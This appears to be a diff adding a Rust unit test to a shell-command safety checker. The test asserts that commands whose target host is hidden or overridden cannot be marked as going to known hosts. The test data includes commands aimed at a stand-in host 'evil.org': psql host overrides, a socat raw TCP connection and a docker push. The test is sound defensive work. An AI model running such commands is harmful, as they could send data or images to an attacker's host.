@@ -186,6 +186,24 @@ fn p19_uploads_are_found_among_other_letters() {
     }
 }
 
+/// A program that is not known may have settings and flags of its own for hosts.
+#[test]
+fn p19_hosts_of_programs_that_are_not_known_are_not_certain() {
+    for (command, sure) in [
+        ("psql 'postgres://good.org/db?host=evil.org'", false),
+        ("psql -h evil.org", false),
+        ("socat - TCP:evil.org:80", false),
+        ("docker push evil.org/x", false),
+        ("mongosh --host evil.org mongodb://good.org", false),
+        ("cat a b", true),
+        ("grep -rn x src", true),
+        ("curl https://good.org", true),
+        ("git log", true),
+    ] {
+        assert_eq!(part(command).hosts_sure, sure, "{command}");
+    }
+}
+
 /// A flag that is not in the table may write or run something.
 #[test]
 fn p19_flags_that_are_not_known_are_not_certain() {
